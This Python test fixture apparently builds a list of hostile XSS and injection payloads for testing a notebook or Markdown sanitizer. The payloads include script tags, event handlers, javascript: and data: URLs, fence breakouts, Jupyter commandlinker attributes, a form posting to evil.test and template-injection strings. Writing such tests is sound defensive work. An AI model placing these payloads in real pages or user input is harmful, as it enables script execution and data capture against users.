"""Texts that try to become more than text, besides those of tests/kernel/hostile."""

from __future__ import annotations

from tests.kernel.hostile import HOSTILE

_FENCE = "```"
_RUN = "alert(1)"
_TAGS = (
    *("script", "svg", "style", "iframe", "object", "embed", "form", "meta", "math"),
    *("link", "base", "template", "noscript", "video", "audio", "input", "button"),
    *("details", "dialog", "marquee", "frameset", "applet", "xmp", "plaintext", "body"),
    *("textarea", "select", "title", "foreignObject", "animate", "portal", "slot"),
)
_HANDLERS = (
    *("onerror", "onload", "onclick", "onfocus", "onmouseover", "ontoggle"),
    *("onanimationstart", "onpointerdown", "onbeforeinput", "onwheel"),
)
_ADDRESSES = (
    *("javascript:alert(1)", "data:text/html,<script>alert(1)</script>"),
    *("vbscript:x", "JAVASCRIPT:alert(1)", "java&#10;script:alert(1)", "file:///etc"),
)
_AROUND = (
    "{}",
    "> {}",
    "- {}",
    "# {}",
    "**{}**",
    "| {} |\n|---|\n| {} |",
    "[{}](http://a.test/)",
    "`x` {} $y$",
)

PAYLOADS = (
    *HOSTILE,
    *(f"<{tag}>{_RUN}</{tag}>" for tag in _TAGS),
    *(f"<{tag} src=x {on}={_RUN}>" for tag in ("img", "svg", "p") for on in _HANDLERS),
    *(f'<a href="{address}">x</a>' for address in _ADDRESSES),
    *(f"[x]({address})" for address in _ADDRESSES),
    *(f"![x]({address})" for address in _ADDRESSES),
    *(each.replace("{}", "<img src=x onerror=alert(1)>") for each in _AROUND),
    *(each.replace("{}", "<script>alert(1)</script>") for each in _AROUND),
    "<math><mi//xlink:href='data:x,<script>alert(1)</script>'>",
    "<math><annotation-xml encoding='text/html'><script>alert(1)</script>",
    "<svg><style><img src=x onerror=alert(1)></style></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<p data-commandlinker-command='notebook:run-all-cells'>x</p>",
    "<b data-commandlinker-command=x data-commandlinker-args='{\"a\":1}'>x</b>",
    "<div id=jupyter-config-data>{}</div>",
    "&lt;img src=x onerror=alert(1)&gt;",
    "&amp;lt;script&amp;gt;alert(1)&amp;lt;/script&amp;gt;",
    "&#x26;#x3c;script&#x26;#x3e;",
    f"{_FENCE}{_FENCE}html\n{_FENCE}\n<script>alert(1)</script>\n{_FENCE}{_FENCE}",
    f"{_FENCE}md\n{_FENCE}js\n</code></pre><script>alert(1)</script>\n{_FENCE}\n{_FENCE}",
    f"~~~html\n{_FENCE}\n<iframe srcdoc='<script>alert(1)</script>'>\n{_FENCE}\n~~~",
    f"- {_FENCE}html\n  </code><img src=x onerror=alert(1)>\n  {_FENCE}",
    '"><script>alert(1)</script>',
    "'></div><script>alert(1)</script>",
    "</div></div><form action=//evil.test><button>Send</button></form>",
    "--><script>alert(1)</script>",
    "]]><script>alert(1)</script>",
    "${alert(1)} {{constructor.constructor('alert(1)')()}}",
)
